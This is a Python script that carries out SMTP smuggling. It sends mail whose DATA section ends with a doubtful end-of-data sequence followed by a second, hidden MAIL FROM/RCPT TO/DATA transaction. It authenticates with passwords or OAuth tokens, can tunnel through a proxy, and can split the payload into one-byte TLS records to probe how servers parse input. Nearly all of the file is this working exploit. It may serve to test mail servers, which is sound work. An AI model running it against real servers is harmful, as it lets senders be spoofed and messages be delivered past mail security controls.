"""A device that hides a second mail in the data of a first: what follows a doubtful end of the data looks
like commands.

Arguments: listener connect name implicit|starttls|none trusted version mechanism, and for each session
user secret to hidden lines end pieces. All sessions run at the same time. Each connects, if need be through an
HTTP proxy; signs in as the user, by PLAIN with a password, by XOAUTH2 with a token, or not at all (NONE); and
sends a mail to one address, in whose data is one to another. How the lines of the first end and the end between
both are written with escapes, such as \\n.\\n; pieces is "whole", or "bytes" for a record of TLS for each byte.
Prints all replies to the data, and a line "session" before those of each session.
"""

import concurrent.futures
import smtplib
import socket
import ssl
import sys

(listener, connect, name, tls, trusted, version, mechanism) = sys.argv[1:8]

context = ssl.create_default_context(cafile=trusted)
context.minimum_version = context.maximum_version = ssl.TLSVersion[version]
if version == "TLSv1":
    context.set_ciphers("ALL:@SECLEVEL=0")


class Device(smtplib.SMTP):
    def _get_socket(self, host, port, timeout):
        host, port = listener.rsplit(":", 1)
        device = socket.create_connection((host, int(port)), 30)
        # Else each command waits 40 ms: OpenSSL writes a TLS 1.0 record in two, and Nagle holds the second.
        device.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if connect:
            device.sendall(f"CONNECT {connect} HTTP/1.1\r\nHost: {connect}\r\n\r\n".encode())
            answer = b""
            while not answer.endswith(b"\r\n\r\n"):
                answer += device.recv(1) or sys.exit(f"proxy ended after {answer}")
            assert b" 200 " in answer, answer
        if tls == "implicit":
            device = context.wrap_socket(device, server_hostname=name)
        return device


def session(user, secret, to, hidden, lines, end, pieces):
    device = Device(name, 1)
    device._host = name
    if tls == "starttls":
        device.starttls(context=context)
    device.ehlo()
    if mechanism == "PLAIN":
        device.login(user, secret)
    elif mechanism == "XOAUTH2":
        answer = f"user={user}\x01auth=Bearer {secret}\x01\x01"
        device.auth(mechanism, lambda challenge=None: answer, initial_response_ok=False)
    device.mail(user)
    device.rcpt(to)
    assert device.docmd("DATA")[0] == 354

    lines, end = (text.encode().decode("unicode_escape") for text in (lines, end))
    data = (
        f"Subject: open{lines}{lines}open{end}"
        + f"MAIL FROM:<{user}>\r\nRCPT TO:<{hidden}>\r\nDATA\r\n"
        + "Subject: hidden\r\n\r\nhidden\r\n.\r\nQUIT\r\n"
    ).encode()
    size = len(data) if pieces == "whole" else 1
    heard = []
    try:
        for at in range(0, len(data), size):
            device.sock.sendall(data[at : at + size])
    except OSError as closed:
        heard.append(f"closed while sending: {closed}")
    try:
        while line := device.file.readline():
            heard.append(f"< {line.decode().strip()}")
    except OSError as closed:
        heard.append(f"closed: {closed}")
    device.close()
    return heard


arguments = [sys.argv[at : at + 7] for at in range(8, len(sys.argv), 7)]
with concurrent.futures.ThreadPoolExecutor(len(arguments)) as threads:
    for heard in threads.map(lambda each: session(*each), arguments):
        print("session", *heard, sep="\n")
